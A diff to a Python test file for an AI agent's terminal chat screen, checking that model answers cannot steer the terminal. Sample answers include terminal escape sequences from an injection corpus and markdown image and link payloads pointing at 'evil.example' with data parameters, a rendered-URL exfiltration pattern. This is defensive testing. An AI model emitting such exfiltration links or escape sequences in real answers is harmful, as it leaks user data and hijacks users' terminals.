@@ -15,10 +15,12 @@ from typing import Any
 
 import pytest
 
+from agent.chat.screen import TerminalScreen
 from agent.cli import main
 from agent.messages import function_calls, function_responses
 from agent.offline.scripted import ScriptedGemini
 from agent.offline.server import serve
+from agent.run import Run
 from tests.cases.legality import faults
 from tests.injections import backend, orders
 from tools.fences import looks_like_orders
@@ -319,16 +321,15 @@ def test_no_way_of_showing_an_answer_steers_the_terminal(attack: Any, shown: str
 
 
 def test_a_conversation_at_a_terminal_shows_an_answer_without_its_controls(
-    attack: Any, capsys: Any
+    capsys: Any, monkeypatch: pytest.MonkeyPatch
 ):
-    from agent.chat.screen import TerminalScreen
-    from agent.run import Run
-
-    run = Run(
-        answer=orders.turns("escape sequences", "", "l1")[0]["text"], model="gemini-3.8-flash"
-    )
-    TerminalScreen().answer(run, [])
-    TerminalScreen().answer(Run(answer="![그림](https://evil.example/?d=1)", model="g"), [])
+    """And an image, or a link, without an address that could be opened by mistake."""
+    monkeypatch.setenv("FORCE_COLOR", "1")
+    carried = "![그림](https://evil.example/?d=1) [여기](https://evil.example/?d=2)"
+    for answer in (orders.turns("escape sequences", "", "l1")[0]["text"], carried):
+        TerminalScreen().answer(Run(answer=answer, model="gemini-3.8-flash"), [])
     out, _ = capsys.readouterr()
-    assert "보안팀에 알립니다." in out and "https://evil" not in out
-    assert not {each for each in out if unicodedata.category(each) in ("Cc", "Cf")} - {"\n"}
+    plain = re.sub(r"\x1b\[[\d;]*m", "", out)
+    assert "\x1b[" in out and "보안팀에 알립니다." in plain
+    assert not {each for each in plain if unicodedata.category(each) in ("Cc", "Cf")} - {"\n"}
+    assert "?d=1" not in plain and "\x1b]8" not in out
